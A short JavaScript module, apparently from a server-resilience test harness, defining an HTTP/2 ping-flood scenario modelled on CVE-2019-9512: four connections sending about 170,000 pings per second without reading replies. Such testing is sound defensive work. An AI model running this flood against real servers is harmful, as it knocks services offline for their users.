import { PING } from '../harness/wire.mjs';

export const attack = {
  what: 'Four connections send 170,000 pings per second and read none of the answers.',
  like: 'CVE-2019-9512 (HTTP/2 ping flood)',
  prepare: () => Buffer.concat(new Array(5_000).fill(PING)),
  run: (attacker, pings) => attacker.flood(4, pings, { isDeaf: true }),
};
